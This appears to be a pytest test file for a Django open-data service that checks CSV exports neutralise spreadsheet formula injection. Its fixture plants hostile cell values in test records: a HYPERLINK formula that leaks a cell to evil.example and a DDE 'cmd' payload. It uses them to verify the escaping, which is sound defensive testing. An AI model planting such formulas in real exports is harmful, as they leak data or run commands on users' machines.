"""CSV formula injection (issue 10, item 4): a text cell beginning with =, +, -, @, a tab or a carriage
return would run as a formula in Excel or LibreOffice. Every CSV — the API's `?format=csv` (Python
stream and PostgreSQL COPY alike, byte for byte) and the nightly /opendata/ files — writes such a
cell with a leading apostrophe (OWASP's rule); numbers (a negative attainment), dates and
the record as stored are untouched, and an import keeps the text as typed."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from agreements.models import Agreement
from agreements.tables import TABLES, published_querysets
from core.tables import FORMULA_TRIGGERS, Label, csv_safe
from opendata.bulk import current_dir, opendata_export
from tests.api.conftest import client_for
from tests.csv_forms import copy_csv, python_csv
from tests.factories import (
    AgreementFactory,
    DeliverableFactory,
    DepartmentFactory,
    InitiativeFactory,
    MeasurementFactory,
    OrganizationFactory,
    OutcomeIndicatorFactory,
    PartyFactory,
)

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'


@pytest.fixture
def hostile(city):
    """Published records whose texts begin with every formula trigger."""
    agreement = AgreementFactory(
        municipality=city,
        published=True,
        published_at=timezone.now(),
        title=HYPERLINK,
        title_en="+cmd|' /C calc'!A0",
        summary="-2+3",
        data_sharing_terms="@SUM(A1:A9)",
        department=DepartmentFactory(municipality=city, name="=企画課"),
        municipal_cost_jpy=0,
        # the columns of issue 11 are text a city wrote: they start with triggers too
        period_text="=期間",
        fields_text="+分野",
        source_ref="-12",
    )
    organization = OrganizationFactory(name="=株式会社悪意", kana="+あくい", industry="-業種", website="")
    PartyFactory(
        agreement=agreement, organization=organization, signatory_title="\t=代表", role="lead_partner", branch="@支社"
    )
    initiative = InitiativeFactory(agreement=agreement, title="\r=事業", summary="普通の概要", journey_before="@前")
    DeliverableFactory(initiative=initiative, title="-成果物", responsible=organization)
    indicator = OutcomeIndicatorFactory(
        agreement=agreement, name="@指標", unit="=日", data_source="+出典", method="-方法", reporter=organization
    )
    # lower is better (14 → 3): a value of 20 is worse than the baseline, a negative attainment
    MeasurementFactory(indicator=indicator, value=Decimal("20"), source="=出典", method="@方法")
    return agreement


def rows_of(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def assert_no_formula(name: str, body: bytes):
    """No text cell of the dataset starts a formula; numbers, dates and booleans are as they were."""
    header, *rows = rows_of(body)
    columns = {c.header: c for c in TABLES[name].columns}
    assert rows, name
    for row in rows:
        for title, cell in zip(header, row, strict=True):
            if columns[title].kind.type == "string":
                assert not cell.startswith(FORMULA_TRIGGERS), (name, title, cell)


def test_the_rule():
    """OWASP's rule: the leading characters =, +, -, @, tab and carriage return get an apostrophe."""
    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
        assert csv_safe(text) == "'" + text
    for text in ("", "協定", "'=1", " =1", "1-2", "a=b"):
        assert csv_safe(text) == text


@pytest.mark.parametrize("name", list(TABLES))
def test_every_api_csv_neutralises_formulas(hostile, name):
    """`?format=csv` of every list: COPY on PostgreSQL, the Python stream elsewhere."""
    response = client_for().get(f"/api/v1/{name}/?format=csv")
    assert response.status_code == 200
    assert_no_formula(name, b"".join(response.streaming_content))


def test_cells_keep_their_text_after_the_apostrophe_and_numbers_stay_numbers(hostile):
    body = b"".join(client_for().get("/api/v1/agreements/?format=csv").streaming_content)
    header, row = rows_of(body)
    cell = dict(zip(header, row, strict=True))
    assert cell["協定名"] == "'" + HYPERLINK
    assert cell["協定名_英字"] == "'+cmd|' /C calc'!A0"
    assert cell["概要"] == "'-2+3" and cell["データ共有条件"] == "'@SUM(A1:A9)"
    assert cell["担当課"] == "'=企画課" and cell["連携先名称"] == "'=株式会社悪意"
    assert cell["締結日"] == "2024-04-01" and cell["市の費用_円"].isdigit()
    assert cell["期間_原文"] == "'=期間" and cell["連携分野_原文"] == "'+分野" and cell["市の一覧の番号"] == "'-12"
    body = b"".join(client_for().get("/api/v1/measurements/?format=csv").streaming_content)
    header, row = rows_of(body)
    cell = dict(zip(header, row, strict=True))
    assert cell["達成度"] == "-0.5455"  # a negative number is not text
    assert cell["出典"] == "'=出典" and cell["測定方法"] == "'@方法"
    body = b"".join(client_for().get("/api/v1/parties/?format=csv").streaming_content)
    header, row = rows_of(body)
    party = dict(zip(header, row, strict=True))
    assert party["署名者役職"] == "'\t=代表" and party["支社等"] == "'@支社"
    body = b"".join(client_for().get("/api/v1/organizations/?format=csv").streaming_content)
    header, row = rows_of(body)
    organization = dict(zip(header, row, strict=True))
    assert organization["名称_カナ"] == "'+アクイ"  # the reading in katakana, still behind the apostrophe
    # the records themselves are as typed
    assert Agreement.objects.get(pk=hostile.pk).title == HYPERLINK


def test_the_nightly_files_neutralise_formulas(hostile, settings, tmp_path):
    settings.KYOSO_OPENDATA_DIR = tmp_path / "opendata"
    opendata_export()
    for name in TABLES:
        assert_no_formula(name, (current_dir() / f"{name}.csv").read_bytes())
    assert f"'{HYPERLINK}".replace('"', '""') in (current_dir() / "agreements.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize("name", list(TABLES))
def test_copy_writes_the_same_neutralised_bytes(hostile, name, postgres_only):
    """The SQL form of the rule is the Python one, byte for byte."""
    queryset = published_querysets()[name]
    expected = python_csv(TABLES[name], queryset, bom=False).encode()
    assert copy_csv(TABLES[name], queryset, bom=False) == expected
    assert_no_formula(name, expected)


def test_no_label_needs_the_apostrophe():
    """Labels of choices are written as they are by the SQL form: none of them may start a formula."""
    for dataset in TABLES.values():
        for column in dataset.columns:
            for label in (column.kind.labels() if isinstance(column.kind, Label) else {}).values():
                assert not label.startswith(FORMULA_TRIGGERS), (dataset.name, column.header, label)


def test_an_error_answered_as_csv_is_neutralised_too(db):
    """A 400 in CSV echoes the parameter's message: its cells follow the same rule."""
    from api.csv import CsvRenderer

    body = CsvRenderer().render({"error": {"fields": {"=field": ["=message", "plain"]}}}).decode()
    assert rows_of(body.encode()) == [["field", "message"], ["'=field", "'=message"], ["'=field", "plain"]]


def test_an_import_keeps_the_text_as_typed(city, editor):
    """The apostrophe is for spreadsheets reading the exports: what an officer imports is stored as typed."""
    from imports.columns import HEADERS
    from imports.jobs import import_run
    from imports.models import ImportJob

    values = {"協定名": "=1+1 で始まる協定名", "協定種別": "包括連携協定", "締結日": "2024-07-01", "状態": "締結中"}
    values |= {"市の費用_円": "0"}
    out = io.StringIO()
    csv.writer(out).writerows([HEADERS, [values.get(h, "") for h in HEADERS]])
    job = ImportJob(municipality=city, original_name="list.csv", created_by=editor, dry_run=False)
    job.file.save("list.csv", SimpleUploadedFile("list.csv", out.getvalue().encode()), save=False)
    job.save()
    import_run(job)
    assert Agreement.objects.filter(title="=1+1 で始まる協定名").exists(), getattr(job, "errors", None)


def test_dates_are_never_prefixed(hostile):
    """ISO dates and times start with a digit: never touched."""
    hostile.published_at = datetime.datetime(2024, 4, 1, tzinfo=datetime.UTC)
    hostile.save()
    body = b"".join(client_for().get("/api/v1/agreements/?format=csv").streaming_content)
    header, row = rows_of(body)
    assert dict(zip(header, row, strict=True))["公開日時"].startswith("2024-04-01T")
